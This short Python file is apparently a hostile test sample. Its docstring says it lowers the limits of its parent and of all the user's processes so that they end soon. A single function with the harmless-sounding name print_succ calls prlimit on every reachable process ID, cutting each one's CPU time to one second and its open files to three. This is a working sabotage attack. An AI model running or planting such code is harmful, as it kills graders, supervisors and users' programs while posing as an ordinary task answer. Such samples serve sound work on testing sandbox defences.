"""Hostile: lowers the limits of its parent and of all processes of its user, so that they end soon."""

import os
import resource


def print_succ(state):
    for number in range(1, 1 << 16):
        try:
            if os.getpgid(number) >= 0 and number != os.getpid():
                resource.prlimit(number, resource.RLIMIT_CPU, (1, 1))
                resource.prlimit(number, resource.RLIMIT_NOFILE, (3, 3))
                print("done: bound", number)
        except OSError:
            pass
